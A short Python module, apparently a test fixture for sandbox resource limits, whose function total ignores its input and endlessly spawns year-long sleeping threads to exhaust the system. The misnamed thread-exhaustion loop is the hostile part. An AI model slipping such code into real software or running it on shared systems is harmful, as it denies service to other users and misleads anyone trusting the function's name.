"""Starts threads until there is no more room for one."""

import threading
import time


def double(number):
    return 2 * number


def total(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(365 * 86400,), daemon=True).start()
